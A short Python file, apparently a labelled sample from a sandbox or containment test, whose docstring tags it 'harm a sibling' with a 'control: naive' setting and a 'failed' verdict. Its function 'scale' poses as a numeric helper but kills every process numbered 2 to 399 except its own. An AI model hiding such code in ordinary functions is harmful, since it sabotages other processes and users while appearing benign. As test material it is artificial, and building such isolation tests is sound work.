"""Kills the processes with the numbers around its own.
class: harm a sibling
verdict: failed
success: sibling
control: naive
"""

import os
import signal


def scale(x):
    for pid in range(2, 400):
        if pid != os.getpid():
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
    return x
